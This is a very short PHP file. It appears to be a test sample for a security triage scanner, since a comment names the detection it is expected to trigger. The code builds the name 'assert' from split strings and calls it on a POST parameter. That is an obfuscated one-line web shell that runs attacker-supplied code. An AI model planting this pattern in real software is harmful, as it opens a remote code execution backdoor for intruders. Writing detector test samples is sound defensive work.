<?php
// triage-expect: triage_php_split_name_call
$fn = 'as' . 'sert';
$fn($_POST['z']);
